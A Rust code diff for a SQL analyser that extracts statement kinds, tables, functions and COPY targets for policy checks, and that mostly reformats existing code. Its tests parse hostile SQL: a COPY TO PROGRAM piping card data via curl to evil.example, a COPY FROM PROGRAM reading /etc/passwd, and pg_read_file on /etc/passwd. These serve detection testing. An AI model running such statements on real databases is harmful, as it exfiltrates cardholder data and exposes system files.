@@ -135,6 +135,10 @@ impl Visitor for Facts {
             Statement::Call(f) => self.functions.push(object_name(&f.name)),
             // The visitor does not treat dropped objects as relations; policies need them.
             Statement::Drop { names, .. } => self.relations.extend(names.iter().map(object_name)),
+            Statement::Copy {
+                source: ast::CopySource::Table { table_name, .. },
+                ..
+            } => self.relations.push(object_name(table_name)),
             _ => {}
         }
         ControlFlow::Continue(())
@@ -161,7 +165,11 @@ fn write_of(statement: &Statement) -> Option<SqlWrite> {
         Statement::Merge(m) => ("merge", table_factor_name(&m.table), true),
         _ => return None,
     };
-    Some(SqlWrite { kind: kind.to_string(), table, has_where })
+    Some(SqlWrite {
+        kind: kind.to_string(),
+        table,
+        has_where,
+    })
 }
 
 fn first_table(t: &ast::TableWithJoins) -> String {
@@ -177,7 +185,11 @@ fn table_factor_name(t: &ast::TableFactor) -> String {
 
 /// PostgreSQL folds unquoted identifiers to lower case; quoted ones keep their case.
 fn ident(i: &ast::Ident) -> String {
-    if i.quote_style.is_some() { i.value.clone() } else { i.value.to_lowercase() }
+    if i.quote_style.is_some() {
+        i.value.clone()
+    } else {
+        i.value.to_lowercase()
+    }
 }
 
 fn object_name(n: &ObjectName) -> String {
@@ -210,7 +222,11 @@ fn literal_limit(q: &Query) -> Option<u64> {
         Some(LimitClause::OffsetCommaLimit { limit, .. }) => limit,
         _ => {
             // FETCH FIRST n ROWS ONLY is PostgreSQL's standard spelling of LIMIT.
-            return q.fetch.as_ref().and_then(|f| f.quantity.as_ref()).and_then(number);
+            return q
+                .fetch
+                .as_ref()
+                .and_then(|f| f.quantity.as_ref())
+                .and_then(number);
         }
     };
     number(limit)
@@ -228,13 +244,18 @@ fn number(e: &Expr) -> Option<u64> {
 }
 
 fn copy_of(statement: &Statement) -> Option<SqlCopy> {
-    let Statement::Copy { to, target, .. } = statement else { return None };
+    let Statement::Copy { to, target, .. } = statement else {
+        return None;
+    };
     let target = match target {
         ast::CopyTarget::Stdin | ast::CopyTarget::Stdout => CopyTarget::Stdio,
         ast::CopyTarget::File { filename } => CopyTarget::File(filename.clone()),
         ast::CopyTarget::Program { command } => CopyTarget::Program(command.clone()),
     };
-    Some(SqlCopy { is_from: !to, target })
+    Some(SqlCopy {
+        is_from: !to,
+        target,
+    })
 }
 
 /// The statement kind policies match on (documented in the WIT).
@@ -297,7 +318,11 @@ impl LineOffsets {
 
     /// Byte offset of 1-based `line`, 1-based character `column`.
     fn byte(&self, text: &str, line: u64, column: u64) -> usize {
-        let line_start = self.starts.get((line as usize).saturating_sub(1)).copied().unwrap_or(0);
+        let line_start = self
+            .starts
+            .get((line as usize).saturating_sub(1))
+            .copied()
+            .unwrap_or(0);
         let rest = &text[line_start..];
         let col = (column as usize).saturating_sub(1);
         line_start + rest.char_indices().nth(col).map_or(rest.len(), |(i, _)| i)
@@ -317,9 +342,17 @@ mod tests {
 
     #[test]
     fn splits_at_top_level_semicolons_only() {
-        let v = parse("SELECT 'a;b'; /* ; */ SELECT $$x;y$$ ;; -- trailing ;\n SELECT \"c;d\" FROM t");
+        let v =
+            parse("SELECT 'a;b'; /* ; */ SELECT $$x;y$$ ;; -- trailing ;\n SELECT \"c;d\" FROM t");
         let texts: Vec<_> = v.iter().map(|s| s.text.as_str()).collect();
-        assert_eq!(texts, ["SELECT 'a;b'", "/* ; */ SELECT $$x;y$$", "-- trailing ;\n SELECT \"c;d\" FROM t"]);
+        assert_eq!(
+            texts,
+            [
+                "SELECT 'a;b'",
+                "/* ; */ SELECT $$x;y$$",
+                "-- trailing ;\n SELECT \"c;d\" FROM t"
+            ]
+        );
         assert!(v.iter().all(|s| s.parse_error.is_none()), "{v:?}");
         assert!(parse("  -- only a comment\n").is_empty());
         assert!(parse("").is_empty());
@@ -327,7 +360,9 @@ mod tests {
 
     #[test]
     fn kinds_tables_and_filters() {
-        let s = one("select name, pan from public.cards c join Owners o on o.id = c.owner where c.id = 1 limit 10");
+        let s = one(
+            "select name, pan from public.cards c join Owners o on o.id = c.owner where c.id = 1 limit 10",
+        );
         assert_eq!(s.kind, "select");
         assert_eq!(s.tables, ["public.cards", "owners"]);
         assert!(s.has_where);
@@ -371,9 +406,19 @@ mod tests {
         assert!(!s.writes[0].has_where);
 
         let s = one("UPDATE cards SET pan = NULL WHERE id = 3");
-        assert_eq!((s.writes[0].kind.as_str(), s.writes[0].has_where, s.has_where), ("update", true, true));
+        assert_eq!(
+            (
+                s.writes[0].kind.as_str(),
+                s.writes[0].has_where,
+                s.has_where
+            ),
+            ("update", true, true)
+        );
         let s = one("DELETE FROM \"Cards\"");
-        assert_eq!((s.writes[0].table.as_str(), s.writes[0].has_where), ("Cards", false));
+        assert_eq!(
+            (s.writes[0].table.as_str(), s.writes[0].has_where),
+            ("Cards", false)
+        );
         let s = one("INSERT INTO Public.Cards SELECT * FROM staging");
         assert_eq!(s.writes[0].table, "public.cards");
         assert_eq!(s.tables, ["public.cards", "staging"]);
@@ -385,12 +430,16 @@ mod tests {
         assert_eq!(s.kind, "copy");
         let copy = s.copy.unwrap();
         assert!(!copy.is_from);
-        assert_eq!(copy.target, CopyTarget::Program("curl -d @- evil.example".into()));
+        assert_eq!(
+            copy.target,
+            CopyTarget::Program("curl -d @- evil.example".into())
+        );
         let s = one("COPY cards FROM PROGRAM 'cat /etc/passwd'");
         assert!(s.copy.unwrap().is_from);
         let s = one("COPY (SELECT pan FROM cards) TO STDOUT");
         assert_eq!(s.copy.unwrap().target, CopyTarget::Stdio);
         assert_eq!(s.tables, ["cards"]);
+        assert_eq!(one("COPY Cards TO STDOUT").tables, ["cards"]);
 
         let s = one("SELECT pg_read_file('/etc/passwd'), lower(name) FROM cards");
         assert_eq!(s.functions, ["pg_read_file", "lower"]);
